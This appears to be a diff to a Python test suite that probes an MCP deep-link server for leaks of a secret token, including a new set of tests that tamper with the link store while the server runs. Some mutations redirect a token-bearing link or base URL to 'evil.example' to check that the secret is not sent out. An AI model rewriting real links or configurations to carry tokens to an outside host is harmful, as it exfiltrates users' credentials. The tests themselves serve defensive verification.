@@ -2,11 +2,36 @@
 import json
 import os
 import re
+import subprocess
 
 # What would tell these two apart gives a secret away.
-SECRETS = ("hunter2-topsecret", "Q_9")
+SECRETS = ("hunter2-topsecret", "Q_9-zz")
 OPENER = '#!/bin/sh\nprintf "%s\\0" "$1" >> "$RECORD"\n'
+def links(secret):
+    """Links, some of which have the secret where it does not belong."""
+    return LINKS + [
+        {"name": "titled", "path": "/t/$<id>", "title": "Sign in with " + secret},
+        {"name": "tagged", "path": "/g/$<id>", "tags": ["a", secret]},
+        {"name": "usual", "path": "/u/$<id>", "parameters": {"id": {"default": secret}}},
+        {"name": "asked", "path": "/a/$<id>?t=$<token>", "constraints": [
+            {"if": {"properties": {"id": {"const": "1"}}},
+             "then": {"properties": {"token": {"pattern": "^h"}}}}]},
+    ]
+
+
+# The files of an app whose rules tell the beginning of a value.
+APPS = {"ios": {"id": "ABCDE12345.a.b", "association": {"h.example": "aasa"}},
+        "android": {"package": "a.b", "manifest": "AndroidManifest.xml"}}
+ASSOCIATION = {"applinks": {"details": [{"appIDs": ["ABCDE12345.a.b"], "components": [
+    {"/": "/v/h*", "exclude": True}, {"/": "/v/*"}, {"/": "/l/*", "?": {"t": "h*"}}, {"/": "/n/????*"}]}]}}
+MANIFEST = """<manifest xmlns:android="http://schemas.android.com/apk/res/android" package="a.b"><application>
+<activity android:name=".M" android:exported="true"><intent-filter android:autoVerify="true">
+<action android:name="android.intent.action.VIEW"/><category android:name="android.intent.category.DEFAULT"/>
+<category android:name="android.intent.category.BROWSABLE"/>
+<data android:scheme="https" android:host="h.example" android:pathPrefix="/v/h"/>
+<data android:pathPrefix="/n/h"/></intent-filter></activity></application></manifest>"""
 LINKS = [
+    {"name": "value", "path": "/v/$<token>"},
     {"name": "login", "path": "/l/$<id>?t=$<token>"},
     {"name": "plain", "path": "/p/$<id>"},
     {"name": "pinned", "path": "/p/$<id>?p=$<pin>", "parameters": {"pin": {"writeOnly": True}}},
@@ -16,7 +41,7 @@ LINKS = [
 ]
 RULES = [
     {"pattern": "^h"}, {"pattern": "^(?!h)"}, {"pattern": "secret$", "errorMessage": "another"},
-    {"minLength": 5}, {"maxLength": 5}, {"enum": [SECRETS[0]]}, {"enum": ["a", SECRETS[1]]},
+    {"minLength": 9}, {"maxLength": 9}, {"enum": [SECRETS[0]]}, {"enum": ["a", SECRETS[1]]},
     {"const": SECRETS[0]}, {"format": "hostname"}, {"format": "uuid"}, {"type": "integer"},
     {"type": "boolean"}, {"minimum": 1}, {"multipleOf": 2}, {"default": SECRETS[0]},
     {"examples": [SECRETS[1]]}, {"writeOnly": False}, {},
@@ -37,6 +62,10 @@ def call(number, tool, arguments):
             "params": {"name": tool, "arguments": arguments}}
 
 
+START = {"jsonrpc": "2.0", "id": "start", "method": "initialize", "params": {
+    "protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "a", "version": "1"}}}
+
+
 class Agent:
     """One repository, and a server for each list of calls, as an agent restarts it."""
 
@@ -48,25 +77,26 @@ class Agent:
         for name in ("xdg-open", "open"):
             os.chmod(judge.write(self.tools, name, OPENER), 0o755)
         judge.write(self.folder, "values.json", json.dumps({"pin": secret}))
+        judge.write(self.folder, "aasa", json.dumps(ASSOCIATION))
+        judge.write(self.folder, "AndroidManifest.xml", MANIFEST)
         self.reset()
 
     def reset(self):
         self.judge.store(
-            self.folder, LINKS, parameters={"token": {"writeOnly": True}}, environment="e",
+            self.folder, links(self.secret), parameters={"token": {"writeOnly": True}}, environment="e", apps=APPS,
             environments={"e": {"base": "https://h.example", "values": {"token": self.secret}},
                           "app": "app://"})
 
+    @property
+    def environment(self):
+        return self.judge.environment(self.folder, path=self.tools, RECORD=self.record, DISPLAY=":0")
+
     def ask(self, calls, *options):
         """The results of the calls, and why the server broke."""
-        lines = [{"jsonrpc": "2.0", "id": "start", "method": "initialize", "params": {
-            "protocolVersion": "2025-11-25", "capabilities": {},
-            "clientInfo": {"name": "a", "version": "1"}}}]
-        lines += [call(number, *each) for number, each in enumerate(calls)]
-        environment = self.judge.environment(
-            self.folder, path=self.tools, RECORD=self.record, DISPLAY=":0")
+        lines = [START] + [call(number, *each) for number, each in enumerate(calls)]
         outcome = self.judge.run(
             self.folder, ["mcp", "--allow-open", "--allow-write", *options],
-            "".join(json.dumps(line) + "\n" for line in lines).encode(), environment)
+            "".join(json.dumps(line) + "\n" for line in lines).encode(), self.environment)
         answers = [json.loads(line) for line in outcome.out.decode().splitlines()]
         results = [answer.get("result", answer) for answer in answers if answer["id"] != "start"]
         reason = outcome.breakage
@@ -91,6 +121,7 @@ def agents(judge):
     """Nothing that an agent learns depends on a secret, and a secret leaves to its own host only."""
     oracle(judge)
     way_out(judge)
+    changes(judge)
 
 
 def probes():
@@ -102,15 +133,16 @@ def probes():
         ["/n?t=$<token>", "/n/$<token>", "/n/$<token>/$<id>", "/n?a=$<token=x>", "/n?t=$<token?>",
          "/n?t=$<token>&t=$<token>"])]
     asked = []
-    for _, link in added:
+    for link in [*links(""), *(link for _, link in added)]:
         name = {"link": link["name"]}
         asked += [("describe_link", name), ("fill_link", {**name, "values": {}, "environment": "e"}),
                   ("fill_link", {**name, "values": {"id": "1"}, "environment": "e", "format": "adb"}),
-                  ("verify_url", {**name, "values": {}, "environment": "e"}),
+                  ("verify_url", name), ("verify_url", {**name, "values": {}, "environment": "e"}),
                   ("test_cases", {**name, "kind": "all"}),
                   ("open_url", {**name, "values": {}, "environment": "e", "on": "desktop"})]
     for guess in (*SECRETS, "x"):
-        asked += [("list_links", {"query": guess}),
+        asked += [("list_links", {"query": guess}), ("list_links", {"query": guess[:4]}),
+                  ("list_links", {"tag": guess}),
                   ("fill_link", {"link": "login", "values": {"id": guess}}),
                   ("fill_link", {"link": "login", "values": {"id": 1, "token": guess}})]
         for path in ("/l/1?t=", "/otoken0?t=", "/n?t=", "/n/"):
@@ -190,3 +222,53 @@ def way_out(judge):
     if not reason and found != expected:
         reason = "opened %s, not %s: %s" % (found, expected, results)
     judge.note(group, reason, agent.folder, ["mcp"])
+
+
+# Changes of a store while its server runs, and a call that would then get, or tell of, a secret.
+EVIL = "https://evil.example/?t=$<token>"
+LOGIN = {"link": "login", "values": {"id": "1"}, "environment": "e"}
+PLAIN = {"link": "plain", "values": {}, "environment": "e"}
+CHANGES = [
+    (lambda store: store["links"][2].update(path="/p/$<key>"), "fill_link", PLAIN),
+    (lambda store: store["links"][2].update(path="/p/$<key>"), "verify_url", PLAIN),
+    (lambda store: store["links"][2].update(path="/p/$<key>"), "test_cases", {"link": "plain", "kind": "valid"}),
+    (lambda store: store.update(parameters={}), "fill_link", LOGIN),
+    (lambda store: store["parameters"]["token"].update(writeOnly=False), "fill_link", LOGIN),
+    (lambda store: store["parameters"]["token"].update(pattern="^h"), "fill_link", LOGIN),
+    (lambda store: store["links"][1].update(path=EVIL), "open_url", {**LOGIN, "values": {}, "on": "desktop"}),
+    (lambda store: store["links"][1].update(constraints=[{"properties": {"token": {"pattern": "^h"}}}]),
+     "fill_link", LOGIN),
+    (lambda store: store["environments"]["e"].update(base="https://evil.example"), "open_url",
+     {**LOGIN, "on": "desktop"}),
+    (lambda store: store["environments"]["e"]["values"].update(id=SECRETS[0]), "fill_link", PLAIN),
+    (lambda store: store.update(parameters={}), "list_links", {"query": "Sign"}),
+]
+
+
+def changes(judge):
+    group = "a store that changes under an agent"
+    for number, (change, tool, arguments) in enumerate(CHANGES):
+        agent = Agent(judge, SECRETS[0])
+        judge.write(agent.folder, "values.json", json.dumps({"pin": SECRETS[0], "key": SECRETS[0]}))
+        path = os.path.join(agent.folder, "links.json")
+        server = subprocess.Popen(
+            [judge.program, "mcp", "--allow-open", "--values", "values.json"], cwd=agent.folder,
+            env=agent.environment, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+
+        def answer(line):
+            server.stdin.write(json.dumps(line) + "\n")
+            server.stdin.flush()
+            return server.stdout.readline()
+
+        answer(START)
+        answer(call(1, "list_links", {}))
+        with open(path, encoding="utf-8") as file:
+            store = json.load(file)
+        change(store)
+        judge.write(agent.folder, "links.json", json.dumps(store))
+        said = answer(call(2, tool, arguments))
+        server.communicate(timeout=30)
+        reason = None
+        if SECRETS[0] in said or tool != "list_links" and '"isError":true' not in said:
+            reason = "change %d gives %s" % (number, said)
+        judge.note(group, reason or agent.opened() and "it is opened", agent.folder, ["mcp", tool])
